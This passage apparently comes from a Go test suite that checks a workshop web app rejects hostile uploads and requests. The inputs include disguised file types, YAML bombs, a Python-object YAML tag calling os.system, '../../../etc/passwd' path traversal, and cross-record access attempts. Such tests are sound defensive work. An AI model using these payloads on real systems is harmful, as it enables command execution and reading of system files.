		{"a page as a picture", photo("<!doctype html>" + script), 422, "not a picture"},
		{"a picture of another kind", photo("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), 422, "not a picture"},
		{"a zip", photo("PK\x03\x04" + strings.Repeat("\x00", 100)), 422, "not a picture"},
		{"a program", photo("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 100)), 422, "not a picture"},
		{"a film", photo("\x00\x00\x00\x18ftyp" + script + strings.Repeat("\x00", 20)), 422, ""},
		{"a picture with script about it", photo("\xff\xd8\xff\xfe\x00\x1b" + script + "\xff\xd9"), 422, ""},
		{"an empty picture and no word", photo(""), 422, "nothing to keep"},
		{"a note with NUL beside a photo", upload("/steps/1/notes", "text", "", "a\x00b"), 422, "no text"},
		{"a note that is no UTF-8 beside a photo", upload("/steps/1/notes", "text", "", "\xff\xfe"), 422, "no text"},
		{"a note of a step that is not there", upload("/steps/999/notes", "text", "", "x"), 404, ""},
		{"a pattern that doubles itself", pattern(bomb), 422, ""},
		{"a pattern in ten thousand brackets", pattern("key: " + strings.Repeat("[", 10_000)), 422, ""},
		{"a pattern in ten thousand maps", pattern(strings.Repeat("{a: ", 10_000)), 422, ""},
		{"a pattern that names itself", pattern("a: &a [*a]\n"), 422, ""},
		{"a pattern of another language's objects", pattern("!!python/object/apply:os.system ['id']\n"), 422, ""},
		{"a pattern with script", pattern("key: " + script + "\ntitle: " + script + "\n"), 422, ""},
		{"a pattern whose key leads upwards", pattern("key: ../../etc\ntitle: x\n"), 422, ""},
		{"a pattern that is no text", pattern("\x00\x01\x02\xff"), 422, ""},
		{"a pattern that is a zip", pattern("PK\x03\x04" + strings.Repeat("\x00", 100)), 422, ""},
		{"an empty pattern", pattern(""), 422, ""},
		{"a file with script as its name", upload("/patterns", "file", script, "x: y"), 422, ""},
		{"a file whose name leads upwards", upload("/patterns", "file", "../../../etc/passwd", "x: y"), 422, ""},
	}
}

// hostileRecords reach for what belongs to another record.
func hostileRecords() []hostile {
	return []hostile{
		{"another commission's step to edit", got("/commissions/2/edit/steps/1"), 404, ""},
		{"another commission's step to change", posted("/commissions/2/edit/steps/1/work", "edition=0&name=x&attended=5"), 404, ""},
		{"another commission's step to remove", posted("/commissions/2/edit/steps/1/remove", "edition=0"), 404, ""},
		{"a pattern that is shipped to remove", posted("/patterns/hall-bench/remove", ""), 404, ""},
		{"a cutting to take back that is not there", posted("/stock/cuttings/7/undo", ""), 404, ""},
		{"a change to let go that is not there", posted("/steered/7/let-go", ""), 404, ""},
		{"a day off to remove that is not there", posted("/shop/days-off/7/remove", ""), 404, ""},
	}
}
